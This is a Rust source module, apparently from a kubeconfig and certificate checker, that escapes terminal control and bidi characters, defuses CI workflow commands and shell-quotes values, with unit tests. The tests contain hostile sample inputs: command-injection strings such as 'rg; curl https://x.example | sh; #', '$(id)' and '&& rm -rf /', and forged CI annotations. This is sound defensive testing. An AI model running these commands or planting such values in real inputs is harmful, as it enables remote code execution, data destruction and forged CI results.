//! The output boundary for text meant for people and terminals: every name,
//! server, path, CN or message that came from input goes through here before a
//! table, a finding block, a Prometheus label or an error line prints it.
//!
//! - [`escape_text`] makes control and invisible format characters visible
//!   (`\x1b`, `\u{202e}`), so input cannot move the cursor, recolour, rewrite a
//!   line with CR, start a new line, or reorder text with bidi overrides; and it
//!   defuses CI workflow commands (`::warning::…` at a line start, `##[…` and
//!   `##vso[…` anywhere), so input cannot forge annotations or "no findings".
//! - [`cell`] does the same for a table cell and caps its width.
//! - [`pad`] left-aligns without a formatting width (`{:<width$}` panics past
//!   65,535).
//! - [`shell_quote`] quotes a value pasted into a suggested command.
//!
//! JSON and SARIF keep exact values: their encoders escape.
//!
//! Backslashes are left as they are: terminals and CI runners give them no
//! meaning, and Windows paths stay readable (so `\x1b` typed literally in a
//! name looks like an escaped ESC; it is harmless either way).

use std::borrow::Cow;
use std::fmt::Write;

/// Widest table cell, in characters; longer cells end in `…`.
pub const CELL_MAX: usize = 256;

/// Whether `c` must not reach a terminal as it is: C0 controls (NUL, BEL,
/// TAB, LF, CR, ESC…), DEL, C1 controls (U+0080–U+009F), line and paragraph
/// separators, and the invisible format characters (bidi embeddings,
/// overrides, isolates and marks, zero-width characters, the BOM, tags): the
/// general categories Cc, Cf, Zl and Zp (tested against the Unicode database),
/// with the Egyptian hieroglyph format controls of Unicode 15 too.
pub(crate) fn hidden(c: char) -> bool {
    matches!(c,
        // C0 controls, DEL and C1 controls; the soft hyphen
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{ad}'
        // Arabic and Syriac number signs and marks
        | '\u{600}'..='\u{605}' | '\u{61c}' | '\u{6dd}' | '\u{70f}'
        | '\u{890}'..='\u{891}' | '\u{8e2}'
        // Mongolian vowel separator; zero-width and bidi marks, line and
        // paragraph separators, bidi embeddings and overrides
        | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        // word joiner and invisible operators, bidi isolates, deprecated
        // format characters; the BOM; interlinear annotation
        | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{206f}'
        | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
        // Kaithi, Egyptian hieroglyph, shorthand and musical symbol format
        // controls; tags
        | '\u{110bd}' | '\u{110cd}' | '\u{13430}'..='\u{1343f}' | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}' | '\u{e0001}' | '\u{e0020}'..='\u{e007f}')
}

/// Appends the visible form of `c` (`\x1b`, `\u{202e}`) when it is a
/// character that must not reach a terminal; returns whether it was one.
pub(crate) fn push_visible(c: char, out: &mut String) -> bool {
    if !hidden(c) {
        return false;
    }
    if (c as u32) < 0x100 {
        let _ = write!(out, "\\x{:02x}", c as u32);
    } else {
        let _ = write!(out, "\\u{{{:x}}}", c as u32);
    }
    true
}

/// Byte offset of a `:` that starts `::` at the text's first non-space
/// character: CI runners (GitHub Actions) trim leading white space and then
/// read `::command::` as a workflow command.
fn leading_colons(s: &str) -> Option<usize> {
    let start = s.len() - s.trim_start_matches(char::is_whitespace).len();
    s[start..].starts_with("::").then_some(start)
}

/// Whether the `#` at byte `i` is the second of `##[` or `##vso[` (GitHub's
/// and Azure Pipelines' command prefixes, honoured anywhere in a line).
pub(crate) fn command_hash(s: &str, i: usize) -> bool {
    let rest = &s[i + 1..];
    i > 0
        && s.as_bytes()[i - 1] == b'#'
        && (rest.starts_with('[')
            || rest
                .get(..4)
                .is_some_and(|p| p.eq_ignore_ascii_case("vso[")))
}

fn needs_escape(s: &str) -> bool {
    s.chars().any(hidden)
        || leading_colons(s).is_some()
        || s.match_indices('#').any(|(i, _)| command_hash(s, i))
}

/// Appends `s[from..]` escaped to `out`, at most `max` characters of it;
/// returns where it stopped when the rest did not fit (an escape is never
/// split).
fn escape_into(s: &str, from: usize, max: usize, out: &mut String) -> Option<usize> {
    let colon = leading_colons(s);
    let mut count = 0;
    for (i, c) in s[from..].char_indices() {
        let i = from + i;
        let before = out.len();
        let defuse = (c == ':' && colon == Some(i)) || (c == '#' && command_hash(s, i));
        if defuse {
            let _ = write!(out, "\\x{:02x}", c as u32);
        } else if !push_visible(c, out) {
            out.push(c);
        }
        // Escapes are ASCII: their byte length is their width.
        let width = if out.len() - before == c.len_utf8() {
            1
        } else {
            out.len() - before
        };
        if count + width > max {
            out.truncate(before);
            return Some(i);
        }
        count += width;
    }
    None
}

/// `s` with every control and invisible format character made visible, and CI
/// workflow-command prefixes defused; borrowed when nothing needed changing.
///
/// ```
/// use kcred_core::escape_text;
/// assert_eq!(escape_text("aks-prod"), "aks-prod");
/// assert_eq!(escape_text("a\x1b[2Jb\r\n"), "a\\x1b[2Jb\\x0d\\x0a");
/// assert_eq!(escape_text("evil\u{202e}txt"), "evil\\u{202e}txt");
/// assert_eq!(escape_text("::warning::x"), "\\x3a:warning::x");
/// ```
pub fn escape_text(s: &str) -> Cow<'_, str> {
    if !needs_escape(s) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    escape_into(s, 0, usize::MAX, &mut out);
    Cow::Owned(out)
}

/// A table cell: [`escape_text`], then cut to [`CELL_MAX`] characters ending
/// in `…`. Only the start of a long value is looked at.
pub(crate) fn cell(s: &str) -> Cow<'_, str> {
    cell_in(s, CELL_MAX)
}

/// A table cell as [`cell`], cut to `max` characters (at least 1, at most
/// [`CELL_MAX`]) ending in `…`.
pub(crate) fn cell_in(s: &str, max: usize) -> Cow<'_, str> {
    let max = max.clamp(1, CELL_MAX);
    if s.len() <= max && !needs_escape(s) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len().min(max * 4));
    if escape_into(s, 0, max, &mut out).is_some() {
        // Too long (escapes counted): `max - 1` characters' worth and `…`.
        out.clear();
        escape_into(s, 0, max - 1, &mut out);
        out.push('…');
    }
    Cow::Owned(out)
}

/// Spaces between table columns.
pub(crate) const GAP: usize = 3;

/// The narrowest a shortened column gets (unless its header is wider).
const NARROWEST: usize = 10;

/// Narrows the columns of a table so that they and the [`GAP`]s between them
/// fit in `total` characters (`None`: `--wide`, nothing changes). `widths`
/// holds each column's widest cell; no column goes below `floors[i]`. The
/// widest columns are cut first, to a common width, so a table whose floors
/// alone do not fit stays wider than `total`.
fn fit(widths: &mut [usize], floors: &[usize], total: Option<usize>) {
    let Some(total) = total else { return };
    let gaps = GAP.saturating_mul(widths.len().saturating_sub(1));
    let room = total.saturating_sub(gaps);
    let floor = |i: usize| floors.get(i).copied().unwrap_or(0);
    let capped = |cap: usize| -> usize {
        widths
            .iter()
            .enumerate()
            .map(|(i, &w)| w.min(cap.max(floor(i))))
            .fold(0usize, usize::saturating_add)
    };
    // The widest common cap that fits (0: every column at its floor).
    let (mut lo, mut hi) = (0usize, widths.iter().copied().max().unwrap_or(0));
    while lo < hi {
        let mid = lo + (hi - lo).div_ceil(2);
        if capped(mid) <= room {
            lo = mid;
        } else {
            hi = mid - 1;
        }
    }
    for (i, w) in widths.iter_mut().enumerate() {
        *w = (*w).min(lo.max(floor(i)));
    }
}

/// The widths of a table's columns: each its widest [`cell`] (or its
/// header), then [`fit`] in `total` by shortening only the columns named in
/// `cut` (names, servers, identities: free text), none of them below its
/// header or 10 characters. Columns of fixed shape (kinds, instants,
/// durations, statuses) are never cut: a table of them alone may be wider
/// than `total`.
pub(crate) fn column_widths<R: AsRef<[String]>>(
    header: &[&str],
    cut: &[&str],
    rows: impl IntoIterator<Item = R>,
    total: Option<usize>,
) -> Vec<usize> {
    let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
    for row in rows {
        for (w, c) in widths.iter_mut().zip(row.as_ref()) {
            *w = (*w).max(cell(c).chars().count());
        }
    }
    let floors: Vec<usize> = header
        .iter()
        .zip(&widths)
        .map(|(h, &w)| match cut.contains(h) {
            true => w.min(h.chars().count().max(NARROWEST)),
            false => w,
        })
        .collect();
    fit(&mut widths, &floors, total);
    widths
}

/// Appends `text` to `out` and pads it with spaces to `width` characters.
pub(crate) fn pad(out: &mut String, text: &str, width: usize) {
    out.push_str(text);
    let used = text.chars().count();
    out.extend(std::iter::repeat_n(' ', width.saturating_sub(used)));
}

/// `s` as one POSIX shell word: bare when it holds only
/// `A-Za-z0-9_@%+=:,./-`, else in single quotes (a `'` inside becomes `'\''`).
///
/// ```
/// use kcred_core::shell_quote;
/// assert_eq!(shell_quote("rg-platform"), "rg-platform");
/// assert_eq!(shell_quote("rg; curl x | sh"), "'rg; curl x | sh'");
/// assert_eq!(shell_quote("it's"), "'it'\\''s'");
/// assert_eq!(shell_quote(""), "''");
/// ```
pub fn shell_quote(s: &str) -> Cow<'_, str> {
    let safe = |c: char| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c);
    if !s.is_empty() && s.chars().all(safe) {
        return Cow::Borrowed(s);
    }
    Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every code point of the Unicode general categories Cc, Cf, Zl and Zp,
    /// from the Unicode database (tests/data/unicode/generate.py), not from
    /// the list under test.
    fn unicode_hidden() -> Vec<char> {
        let table = include_str!("../../../tests/data/unicode/hidden.txt");
        let code = |hex: &str| u32::from_str_radix(hex.trim(), 16).unwrap();
        let mut all = Vec::new();
        for line in table.lines().filter(|l| !l.starts_with('#')) {
            let (range, _category) = line.split_once(';').unwrap();
            let (first, last) = range.split_once("..").unwrap();
            all.extend((code(first)..=code(last)).filter_map(char::from_u32));
        }
        all
    }

    #[test]
    fn every_control_format_and_separator_character_is_made_visible() {
        let all = unicode_hidden();
        assert!(all.len() >= 230, "{}", all.len());
        let raw = |e: &str| e.chars().find(|c| all.contains(c));
        for &c in &all {
            assert!(hidden(c), "{c:?} ({:04X})", u32::from(c));
            for s in [format!("{c}"), format!("a{c}b"), format!("{c}{c}x{c}")] {
                let e = escape_text(&s);
                assert_eq!(raw(&e), None, "{s:?} -> {e:?}");
                assert!(e.contains('\\'), "{s:?} -> {e:?}");
                let c = cell(&s);
                assert_eq!(raw(&c), None, "{s:?} -> {c:?}");
            }
        }
        assert_eq!(escape_text("\u{1b}"), "\\x1b");
        assert_eq!(escape_text("\u{9b}"), "\\x9b");
        assert_eq!(escape_text("\u{202e}"), "\\u{202e}");
        assert_eq!(escape_text("\u{e0041}"), "\\u{e0041}");
    }

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        for s in [
            "",
            "aks-prod-weu",
            "https://10.0.0.1:6443",
            "C:\\Users\\me\\.kube\\config",
            "système:masters ✓ 東京",
            "a::b",
            "# heading",
            "C# [x]",
        ] {
            assert!(matches!(escape_text(s), Cow::Borrowed(t) if t == s), "{s}");
            assert!(matches!(cell(s), Cow::Borrowed(t) if t == s), "{s}");
        }
    }

    #[test]
    fn workflow_commands_are_defused() {
        for s in [
            "::warning::pwned",
            "  ::error file=x::y",
            "\u{a0}\u{3000}::notice::x",
            "::",
        ] {
            let e = escape_text(s);
            assert!(!e.trim_start().starts_with("::"), "{e}");
        }
        for s in [
            "##[error]x",
            "a ##[group]x",
            "x##vso[task.setvariable]y",
            "##VSO[x]",
        ] {
            let e = escape_text(s);
            assert!(!e.contains("##["), "{e}");
            assert!(!e.to_ascii_lowercase().contains("##vso["), "{e}");
        }
        assert_eq!(escape_text("###["), "##\\x23[");
    }

    #[test]
    fn cells_are_capped_with_an_ellipsis() {
        for n in [CELL_MAX - 1, CELL_MAX, CELL_MAX + 1, 70_000, 1_000_000] {
            let s = "é".repeat(n);
            let c = cell(&s);
            assert!(c.chars().count() <= CELL_MAX, "{n}");
            assert_eq!(c.ends_with('…'), n > CELL_MAX, "{n}");
        }
        // An escape is never cut in half.
        let s = "\u{1b}".repeat(1_000);
        let c = cell(&s);
        assert!(c.chars().count() <= CELL_MAX);
        assert!(c.strip_suffix('…').unwrap().ends_with("\\x1b"), "{c}");
        let s = "\u{202e}".repeat(1_000);
        let c = cell(&s);
        assert!(c.strip_suffix('…').unwrap().ends_with("\\u{202e}"), "{c}");
    }

    #[test]
    fn cells_fit_a_width() {
        assert_eq!(cell_in("aks-prod-weu", 12), "aks-prod-weu");
        assert_eq!(cell_in("aks-prod-weu", 8), "aks-pro…");
        assert_eq!(cell_in("aks-prod-weu", 0), "…");
        assert_eq!(cell_in("a\u{1b}bcdef", 5), "a…");
        assert_eq!(cell_in("a\u{1b}bcdef", 6), "a\\x1b…");
        // An escape that ends the value exactly at the width is kept whole.
        assert_eq!(cell_in("ab\u{7}", 6), "ab\\x07");
        assert_eq!(cell_in("ab\u{7}", 5), "ab…");
    }

    #[test]
    fn the_widest_columns_are_cut_first() {
        let fitted = |w: &[usize], f: &[usize], total| {
            let mut w = w.to_vec();
            fit(&mut w, f, total);
            w
        };
        // 10 + 40 + 8 + 2 gaps of 3 = 64: fits in 80, not in 50.
        assert_eq!(fitted(&[10, 40, 8], &[4, 4, 4], Some(80)), [10, 40, 8]);
        assert_eq!(fitted(&[10, 40, 8], &[4, 4, 4], Some(50)), [10, 26, 8]);
        assert_eq!(fitted(&[30, 40, 8], &[4, 4, 4], Some(50)), [18, 18, 8]);
        // Headers are never cut: a table too wide for them stays wide.
        assert_eq!(fitted(&[30, 40], &[20, 20], Some(10)), [20, 20]);
        assert_eq!(fitted(&[30, 40], &[20, 20], None), [30, 40]);
        assert_eq!(fitted(&[], &[], Some(0)), Vec::<usize>::new());
        // Only the named columns are cut, down to 10 (or their header).
        let rows = [["a-very-long-name-here-x", "client-certificate"].map(String::from)];
        let widths = |total| column_widths(&["NAME", "KIND"], &["NAME"], &rows, total);
        assert_eq!(widths(Some(20)), [10, 18]);
        assert_eq!(widths(Some(36)), [15, 18]);
        assert_eq!(widths(None), [23, 18]);
    }

    #[test]
    fn pad_needs_no_formatting_width() {
        let mut out = String::new();
        pad(&mut out, "ab", 100_000);
        assert_eq!(out.len(), 100_000);
        let mut out = String::new();
        pad(&mut out, "abc", 1);
        assert_eq!(out, "abc");
    }

    /// Splits a line into words the way POSIX `sh` does for the quoting
    /// [`shell_quote`] uses (bare words, single quotes, backslash); `None` on
    /// any character `sh` would treat as syntax outside quotes.
    fn sh_words(line: &str) -> Option<Vec<String>> {
        let mut words = Vec::new();
        let mut word: Option<String> = None;
        let mut chars = line.chars();
        while let Some(c) = chars.next() {
            match c {
                ' ' => words.extend(word.take()),
                '\'' => {
                    let w = word.get_or_insert_with(String::new);
                    loop {
                        match chars.next()? {
                            '\'' => break,
                            c => w.push(c),
                        }
                    }
                }
                '\\' => word.get_or_insert_with(String::new).push(chars.next()?),
                c if c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c) => {
                    word.get_or_insert_with(String::new).push(c)
                }
                _ => return None,
            }
        }
        words.extend(word);
        Some(words)
    }

    const NASTY_WORDS: &[&str] = &[
        "rg; curl https://x.example | sh; #",
        "a|b",
        "$(id)",
        "`id`",
        "'",
        "it's",
        "\"q\"",
        "a\nb",
        "two words",
        "",
        "*",
        "~root",
        "a\\b",
        "&& rm -rf /",
        "${IFS}",
        "!!",
        "\u{202e}x",
    ];

    #[test]
    fn quoted_words_split_back_into_the_intended_argv() {
        let mut line = "az aks rotate-certs".to_owned();
        let mut want: Vec<String> = ["az", "aks", "rotate-certs"].map(String::from).to_vec();
        for w in NASTY_WORDS
            .iter()
            .chain(&["rg-platform", "x@y.z:1/2,3+4=5%"])
        {
            line.push(' ');
            line.push_str(&shell_quote(w));
            want.push((*w).to_owned());
        }
        assert_eq!(shell_quote("rg-platform"), "rg-platform");
        assert_eq!(sh_words(&line), Some(want), "{line}");
    }

    /// Every line of a rendered text is safe to print: no hidden character
    /// (the line feeds that end lines aside), no workflow command at a line
    /// start, no `##[` / `##vso[` anywhere.
    fn assert_safe(what: &str, text: &str) {
        for line in text.split('\n') {
            assert!(!line.chars().any(hidden), "{what}: {line:?}");
            assert!(!line.trim_start().starts_with("::"), "{what}: {line:?}");
            assert!(!line.contains("##["), "{what}: {line:?}");
        }
    }

    fn pki_entry(name: &str, ca: &str) -> crate::PkiEntry {
        crate::PkiEntry {
            name: name.to_owned(),
            file: name.into(),
            source: crate::PkiSource::CertificateFile,
            listed_by_kubeadm: false,
            ca_name: Some(ca.to_owned()),
            externally_managed: false,
            missing: false,
            certificate: None,
        }
    }

    fn now() -> time::OffsetDateTime {
        time::macros::datetime!(2026-01-01 0:00 UTC)
    }

    #[test]
    fn pki_table_caps_huge_cells_and_escapes_names() {
        for n in [70_000, 1_000_000] {
            let long = "n".repeat(n);
            let mut missing = pki_entry(&long, &long);
            missing.missing = true;
            let report = crate::PkiReport {
                certificates: vec![pki_entry(&long, &long), missing],
                authorities: vec![pki_entry(&long, "")],
                ..Default::default()
            };
            let table = crate::pki_table(&report, now(), None);
            for line in table.lines() {
                assert!(line.chars().count() <= 5 * (CELL_MAX + 3) + 50, "{n}");
            }
            assert!(table.contains('…'));
        }
        for &c in &unicode_hidden() {
            let name = format!("::warning::x{c}##[error]");
            let mut missing = pki_entry(&name, "");
            missing.missing = true;
            let report = crate::PkiReport {
                certificates: vec![pki_entry(&name, &format!("ca{c}")), missing],
                authorities: vec![pki_entry(&name, "")],
                ..Default::default()
            };
            assert_safe("pki", &crate::pki_table(&report, now(), None));
        }
    }

    #[test]
    fn findings_blocks_never_start_with_input() {
        for &c in &unicode_hidden() {
            for file in [":", "::warning::f", " ::x", "##[error]f"] {
                let f = crate::Finding {
                    code: crate::Code::Expired,
                    severity: crate::Severity::Error,
                    location: crate::FindingLocation {
                        file: format!("{file}{c}").into(),
                        line: Some(1),
                        column: None,
                        context: Some(format!("::c{c}")),
                        user: Some(format!("u{c}")),
                        cluster: None,
                        entry: None,
                        field: None,
                    },
                    kind: None,
                    message: format!("::warning::m{c}"),
                    remediation: format!("::r{c}"),
                    platform: crate::Platform::Generic,
                    suppressed: None,
                };
                let text = crate::findings_table(std::slice::from_ref(&f), false);
                assert_safe("findings", &text);
                assert!(text.ends_with("1 finding(s): 1 error(s), 0 warning(s), 0 info\n"));
            }
        }
    }

    #[test]
    fn inventory_table_escapes_every_field() {
        for &c in &unicode_hidden() {
            let h = format!("\\u{:04x}", c as u32);
            let h = if (c as u32) > 0xffff {
                format!("\\U{:08x}", c as u32)
            } else {
                h
            };
            let yaml = format!(
                "clusters:\n- name: \"::warning::cl{h}\"\n  cluster:\n    server: \"::s{h}\"\ncontexts:\n- name: \"::warning::ctx{h}\"\n  context:\n    cluster: \"::warning::cl{h}\"\n    user: \"::u{h}\"\n- name: \"::dangling{h}\"\n  context:\n    user: \"::missing{h}\"\nusers:\n- name: \"::u{h}\"\n  user:\n    username: \"::b{h}\"\n    password: p\n"
            );
            let config: crate::Kubeconfig = serde_saphyr::from_str(&yaml).unwrap();
            let inv = crate::inventory(&config, &crate::NoFiles);
            let table = crate::inventory_table(&inv, now(), false, None);
            assert_safe("inventory", &table);
            assert!(table.contains("\\x3a:warning::ctx"), "{table}");
            assert!(table.contains("problem(s)"), "{table}");
        }
    }
}
